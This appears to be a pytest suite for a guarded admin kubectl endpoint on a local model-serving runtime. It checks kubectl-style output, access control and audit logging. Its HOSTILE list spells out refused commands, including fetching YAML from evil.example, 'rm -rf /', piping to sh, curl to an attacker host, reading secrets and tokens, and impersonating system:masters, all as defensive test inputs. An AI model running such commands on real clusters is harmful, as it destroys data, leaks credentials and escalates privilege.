"""`POST /api/admin/kubectl` on the local runtime: real replicas answered in kubectl's formats, and the
guard's refusals, over real HTTP."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
import yaml
from support import RunningServer, wait_for
from test_models import wait_ready

from inferbox.runtime.kubectl.guard import CommandRefused, parse


@pytest.fixture(scope="module")
def kube(module_servers, sklearn_dir: Path) -> RunningServer:
    """One control plane with model `iris` Ready in tenant-a, and an empty tenant-b."""
    srv = module_servers()
    srv.tenant_token("tenant-b")
    with srv.tenant("tenant-a") as c:
        r = c.post(
            "/api/models", json={"name": "iris", "framework": "sklearn", "storageUri": str(sklearn_dir)}
        )
        assert r.status_code == 201, r.text
        wait_ready(c, "iris")
    return srv


@pytest.fixture(scope="module")
def admin(kube: RunningServer) -> Iterator[httpx.Client]:
    with kube.admin() as client:
        yield client


def kubectl(admin: httpx.Client, command: str) -> str:
    r = admin.post("/api/admin/kubectl", json={"command": command})
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["command"] == command
    return body["result"]


def pod_names(admin: httpx.Client) -> list[str]:
    return [line.removeprefix("pod/") for line in kubectl(admin, "get pods -n tenant-a -o name").splitlines()]


def test_get_pods_lists_the_replicas_as_running(admin: httpx.Client) -> None:
    result = kubectl(admin, "get pods -n tenant-a")
    header, *rows = result.splitlines()
    assert header.split() == ["NAME", "READY", "STATUS", "RESTARTS", "AGE"]
    assert len(rows) == 1
    name, ready, status, restarts, age = rows[0].split()
    assert re.fullmatch(r"iris-predictor-[a-z0-9]{5}", name)
    assert (ready, status, restarts) == ("1/1", "Running", "0")
    assert re.fullmatch(r"\d+[smhd].*", age)
    # Columns line up the way kubectl's tabwriter puts them: each starts where its header does.
    assert rows[0].index("1/1") == header.index("READY")
    assert rows[0].index("Running") == header.index("STATUS")
    # The leading `kubectl` is tolerated; another tenant has no pods; the default namespace is kubectl's.
    assert kubectl(admin, "kubectl get pods -n tenant-a") == result
    assert kubectl(admin, "get pods -n tenant-b") == "No resources found in tenant-b namespace."
    assert kubectl(admin, "get po") == "No resources found in default namespace."


def test_get_pods_in_every_format(admin: httpx.Client) -> None:
    (name,) = pod_names(admin)
    everywhere = kubectl(admin, "get pods -A").splitlines()
    assert everywhere[0].split()[:2] == ["NAMESPACE", "NAME"]
    assert everywhere[1].split()[:4] == ["tenant-a", name, "1/1", "Running"]
    assert kubectl(admin, "get pods --all-namespaces") == kubectl(admin, "get pods -A")

    wide = kubectl(admin, "get pods -n tenant-a -o wide").splitlines()
    assert wide[0].split()[5:8] == ["IP", "NODE", "NOMINATED"]
    assert "127.0.0.1" in wide[1].split()

    listing = json.loads(kubectl(admin, "get pods -n tenant-a -o json"))
    assert listing["kind"] == "List"
    (pod,) = listing["items"]
    assert pod["kind"] == "Pod" and pod["apiVersion"] == "v1"
    assert pod["metadata"]["name"] == name and pod["metadata"]["namespace"] == "tenant-a"
    assert pod["metadata"]["labels"]["serving.kserve.io/inferenceservice"] == "iris"
    assert pod["status"]["phase"] == "Running"
    assert pod["status"]["containerStatuses"][0]["ready"] is True

    one = yaml.safe_load(kubectl(admin, f"get pod {name} -n tenant-a -o yaml"))
    assert one["kind"] == "Pod" and one["metadata"]["name"] == name
    assert yaml.safe_load(kubectl(admin, f"get pod/{name} -n tenant-a -ojson"))["metadata"]["name"] == name

    assert kubectl(admin, "get pods -n tenant-a -o name") == f"pod/{name}"
    selected = kubectl(admin, "get pods -A -l 'serving.kserve.io/inferenceservice in (iris,other)' -o name")
    assert selected == f"pod/{name}"
    assert kubectl(admin, "get pods -A -l app=nothing") == "No resources found"
    assert name in kubectl(admin, "get pods -n tenant-a --show-labels").splitlines()[1]
    assert kubectl(admin, "get pods -n tenant-a --no-headers").split()[0] == name


def test_get_deployments_namespaces_nodes_and_inference_services(admin: httpx.Client) -> None:
    deployments = kubectl(admin, "get deployments -n tenant-a").splitlines()
    assert deployments[0].split() == ["NAME", "READY", "UP-TO-DATE", "AVAILABLE", "AGE"]
    assert deployments[1].split()[:4] == ["iris-predictor", "1/1", "1", "1"]
    assert kubectl(admin, "get deploy -A -o name") == "deployment.apps/iris-predictor"
    deployment = json.loads(kubectl(admin, "get deployment.apps iris-predictor -n tenant-a -o json"))
    assert deployment["kind"] == "Deployment" and deployment["status"]["readyReplicas"] == 1

    namespaces = kubectl(admin, "get ns").splitlines()
    assert namespaces[0].split() == ["NAME", "STATUS", "AGE"]
    assert [line.split()[:2] for line in namespaces[1:]] == [["tenant-a", "Active"], ["tenant-b", "Active"]]

    nodes = kubectl(admin, "get nodes").splitlines()
    assert nodes[0].split() == ["NAME", "STATUS", "ROLES", "AGE", "VERSION"]
    assert len(nodes) == 2 and nodes[1].split()[1] == "Ready"
    node = json.loads(kubectl(admin, "get nodes -o json"))["items"][0]
    assert node["status"]["capacity"]["cpu"].isdigit()
    assert re.fullmatch(r"\d+(Ki|Mi|Gi|Ti)?", node["status"]["capacity"]["memory"])

    isvc = kubectl(admin, "get isvc -n tenant-a").splitlines()
    assert isvc[0].split()[:3] == ["NAME", "URL", "READY"]
    assert isvc[1].split()[0] == "iris" and "True" in isvc[1].split()
    assert kubectl(admin, "get inferenceservices -A -o name") == "inferenceservice.serving.kserve.io/iris"
    full = yaml.safe_load(kubectl(admin, "get inferenceservice.serving.kserve.io iris -n tenant-a -o yaml"))
    assert full["apiVersion"] == "serving.kserve.io/v1beta1"
    assert full["spec"]["predictor"]["model"]["modelFormat"]["name"] == "sklearn"

    everything = kubectl(admin, "get all -n tenant-a")
    assert "pod/iris-predictor-" in everything and "deployment.apps/iris-predictor" in everything
    # Kinds the local runtime has none of answer like an empty cluster.
    assert kubectl(admin, "get services -n tenant-a") == "No resources found in tenant-a namespace."


def test_describe_logs_and_top(admin: httpx.Client) -> None:
    (name,) = pod_names(admin)
    described = kubectl(admin, f"describe pod {name} -n tenant-a")
    assert re.search(rf"^Name:\s+{name}$", described, re.M)
    assert re.search(r"^Namespace:\s+tenant-a$", described, re.M)
    assert re.search(r"^Status:\s+Running$", described, re.M)
    assert "kserve-container:" in described and "Conditions:" in described
    assert "iris-predictor" in kubectl(admin, "describe deploy iris-predictor -n tenant-a")
    assert "Storage Uri:" in kubectl(admin, "describe isvc iris -n tenant-a")
    assert re.search(r"^Capacity:", kubectl(admin, "describe nodes"), re.M)

    logs = kubectl(admin, f"logs {name} -n tenant-a --tail 5").splitlines()
    assert 1 <= len(logs) <= 5
    assert any("iris" in line for line in kubectl(admin, f"logs pod/{name} -n tenant-a").splitlines())
    assert kubectl(admin, f"logs {name} -n tenant-a --tail=1") == logs[-1]

    # Per-replica CPU needs two samples of the process: poll until the first figures exist.
    top = wait_for(lambda: (t := kubectl(admin, "top pods -n tenant-a")).startswith("NAME") and t, timeout=15)
    header, row = top.splitlines()
    assert header.split() == ["NAME", "CPU(cores)", "MEMORY(bytes)"]
    assert row.split()[0] == name and re.fullmatch(r"\d+m", row.split()[1]) and row.endswith("Mi")
    nodes = kubectl(admin, "top nodes").splitlines()
    assert nodes[0].split() == ["NAME", "CPU(cores)", "CPU(%)", "MEMORY(bytes)", "MEMORY(%)"]


def test_api_resources_version_and_explain(admin: httpx.Client) -> None:
    resources = kubectl(admin, "api-resources").splitlines()
    assert resources[0].split() == ["NAME", "SHORTNAMES", "APIVERSION", "NAMESPACED", "KIND"]
    rows = {line.split()[0]: line.split() for line in resources[1:]}
    assert rows["pods"] == ["pods", "po", "v1", "true", "Pod"]
    isvc = ["inferenceservices", "isvc", "serving.kserve.io/v1beta1", "true", "InferenceService"]
    assert rows["inferenceservices"] == isvc
    assert "pods" not in kubectl(admin, "api-resources --namespaced=false")

    version = kubectl(admin, "version")
    assert re.match(r"Client Version: v\S+\nServer Version: v\S+$", version)
    assert set(json.loads(kubectl(admin, "version -o json"))) == {"clientVersion", "serverVersion"}

    explained = kubectl(admin, "explain isvc")
    assert (
        "KIND:       InferenceService" in explained and "VERSION:    serving.kserve.io/v1beta1" in explained
    )


def test_errors_read_like_kubectl(admin: httpx.Client) -> None:
    assert kubectl(admin, "get foo") == 'error: the server doesn\'t have a resource type "foo"'
    assert kubectl(admin, "describe foo/bar") == 'error: the server doesn\'t have a resource type "foo"'
    assert (
        kubectl(admin, "get pods nope -n tenant-a") == 'Error from server (NotFound): pods "nope" not found'
    )
    assert kubectl(admin, "get deploy nope -n tenant-a") == (
        'Error from server (NotFound): deployments.apps "nope" not found'
    )
    assert kubectl(admin, "logs nope -n tenant-a") == 'Error from server (NotFound): pods "nope" not found'
    assert kubectl(admin, "get").startswith("error: you must specify the type of resource to get")
    assert kubectl(admin, "get pods -l 'a=(b'").startswith("error: unable to parse requirement")
    assert kubectl(admin, "get pods --sort-by=.metadata.name") == (
        "error: flag --sort-by is not supported by the local runtime"
    )


# One row per hostile command: (command, a fragment of the reason it is refused for).
HOSTILE = [
    ("delete pod x -n tenant-a", "verb 'delete' is not allowed"),
    ("exec -it iris-predictor-abcde -- sh", "verb 'exec' is not allowed"),
    ("apply -f https://evil.example/x.yaml", "verb 'apply' is not allowed"),
    ("edit deploy iris-predictor", "verb 'edit' is not allowed"),
    ("cp tenant-a/pod:/etc/passwd /tmp/x", "verb 'cp' is not allowed"),
    ("proxy --port=8001", "verb 'proxy' is not allowed"),
    ("port-forward pod/x 8080:80", "verb 'port-forward' is not allowed"),
    ("auth can-i '*' '*'", "verb 'auth' is not allowed"),
    ("create namespace evil", "verb 'create' is not allowed"),
    ("config view --raw", "verb 'config' is not allowed"),
    ("get secrets -A", "secrets are not readable"),
    ("get secret", "secrets are not readable"),
    ("describe secrets/db-password -n tenant-a", "secrets are not readable"),
    ("get pods,Secrets.v1 -A", "secrets are not readable"),
    ("get serviceaccounts -n tenant-a -o yaml", "could print their tokens"),
    ("get sa default -o jsonpath={.secrets}", "could print their tokens"),
    ("get --raw /api/v1/namespaces/default/secrets", "raw API paths"),
    ("get pods --server https://evil.example", "another API server"),
    ("get pods -s https://evil.example", "flag -s is not allowed"),
    ("get pods -shttps://evil.example", "flag -s is not allowed"),
    ("get pods --token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln", "changes the credentials"),
    ("get pods --kubeconfig /root/.kube/config", "another kubeconfig"),
    ("get pods --as system:admin", "impersonation"),
    ("get pods --as-group system:masters", "impersonation"),
    ("get pods --as_group=system:masters", "impersonation"),
    ("--context prod get pods", "another context"),
    ("get pods --cluster prod", "another cluster"),
    ("get pods --user root", "changes the credentials"),
    ("get pods --insecure-skip-tls-verify", "turns off TLS verification"),
    ("get pods -o go-template='{{.}}'", "output format 'go-template' is not allowed"),
    ("get pods -o jsonpath-file=/etc/passwd", "reads a template file"),
    ("get pods --template '{{.}}'", "templates can print any field"),
    ("get pods -o custom-columns-file=/tmp/c", "reads a template file"),
    ("get pods; rm -rf /", "shell metacharacter ';'"),
    ("get pods && curl evil.example", "shell metacharacter '&&'"),
    ("get pods | sh", "shell metacharacter '|'"),
    ("get pods $(id)", "shell metacharacter '$('"),
    ("get pods `id`", "shell metacharacter '`'"),
    ("get pods > /etc/passwd", "shell metacharacter '>'"),
    ("", "empty command"),
    ("   ", "empty command"),
    ("kubectl", "empty command"),
    ("get pods -w", "watching never ends"),
    ("logs iris-predictor-abcde -f", "following never ends"),
    ("get -f /etc/kubernetes/admin.conf", "reads files or URLs"),
    ("get pods -v=9", "verbose client logging"),
    ("get pods --unheard-of", "unknown flag --unheard-of"),
    ("get 'pods", "cannot be split into words"),
    ("get pods\ndelete pods x", "control characters"),
]


@pytest.mark.parametrize(("command", "reason"), HOSTILE, ids=[repr(c)[:40] for c, _ in HOSTILE])
def test_hostile_commands_are_refused_with_their_reason(
    admin: httpx.Client, command: str, reason: str
) -> None:
    r = admin.post("/api/admin/kubectl", json={"command": command})
    assert r.status_code == 400, r.text
    body = r.json()
    assert body["error"] == "Command not allowed"
    assert reason in body["details"]


def test_the_guard_alone_returns_the_validated_argv() -> None:
    """The guard is the same for any backend: it hands back argv and never touches the runtime."""
    command = parse("kubectl -n tenant-a get pods -l 'app in (a,b)' -ojson")
    assert command.argv == ("-n", "tenant-a", "get", "pods", "-l", "app in (a,b)", "-ojson")
    assert command.verb == "get" and command.args == ("pods",)
    assert command.value("namespace") == "tenant-a" and command.value("output") == "json"
    assert command.value("selector") == "app in (a,b)"
    with pytest.raises(CommandRefused, match="verb 'delete'"):
        parse("delete pods --all")


def test_kubectl_is_for_the_admin_and_is_audited(kube: RunningServer, admin: httpx.Client) -> None:
    with kube.tenant("tenant-a") as tenant:
        r = tenant.post("/api/admin/kubectl", json={"command": "get pods"})
    assert r.status_code == 403
    assert r.json()["error"] == "Admin access required"
    with kube.client() as anonymous:
        assert anonymous.post("/api/admin/kubectl", json={"command": "get pods"}).status_code == 401
    r = admin.post("/api/admin/kubectl", json={})
    assert r.status_code == 400 and r.json()["details"] == "Field 'command' is required"

    kubectl(admin, "get ns")
    admin.post("/api/admin/kubectl", json={"command": "get secrets --token=hunter2"})
    entries = admin.get("/api/admin/audit", params={"action": "admin.kubectl", "limit": 2}).json()["entries"]
    refused, allowed = entries
    assert allowed["outcome"] == "success" and allowed["details"]["command"] == "get ns"
    assert allowed["actor"] == "admin" and allowed["target"] == "get"
    assert refused["outcome"] == "denied"
    assert "hunter2" not in json.dumps(refused)
    assert refused["details"]["command"].startswith("get secrets --token=")
    assert refused["details"]["reason"]
